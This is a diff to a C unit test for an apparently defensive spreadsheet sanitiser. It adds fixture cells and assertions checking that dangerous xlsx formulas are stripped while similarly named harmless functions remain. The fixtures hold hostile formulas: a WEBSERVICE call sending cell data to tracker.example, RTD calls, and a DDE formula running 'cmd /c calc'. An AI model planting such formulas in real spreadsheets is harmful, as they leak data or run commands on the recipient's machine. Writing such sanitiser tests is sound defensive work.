@@ -713,6 +713,8 @@ static void xlsx_parts(void **state)
 		 "<c r=\"G1\"><f>_xlfn.WEBSERVICE(\"http://tracker.example/?\"&amp;A1)</f><v>x</v></c>"
 		 "<c r=\"H1\"><f>rtd(\"srv\",,\"t\")</f><v>1</v></c>"
 		 "<c r=\"I1\"><f>MYRTD(1)+\"EXEC(\"</f><v>2</v></c>"
+		 "<c r=\"J1\"><f aca=\"false\">DDE(\"cmd\",\"/c calc\",\"A1\")</f><v>#N/A</v></c>"
+		 "<c r=\"K1\"><f>MYDDE(1)</f><v>3</v></c>"
 		 "</row></sheetData></worksheet>"},
 		{.name = "xl/worksheets/_rels/sheet1.xml.rels",
 		 .data = RELS_HEAD REL("rId1", "queryTable", "../queryTables/queryTable1.xml") RELS_TAIL},
@@ -756,6 +758,8 @@ static void xlsx_parts(void **state)
 	assert_false(has_str(sh, "WEBSERVICE"));
 	assert_false(has_str(sh, "rtd("));
 	assert_true(has_str(sh, "MYRTD(1)")); /* another function, and EXEC( in a string */
+	assert_false(has_str(sh, "DDE(\"cmd\"")); /* LibreOffice's DDE() function */
+	assert_true(has_str(sh, "MYDDE(1)"));
 	assert_true(has_str(sh, "visible text"));
 	free(sh);
 	assert_true(reported(&r, SK_ACTION_REMOVED, "macro-sheet", "xl/macrosheets/sheet2.xml"));
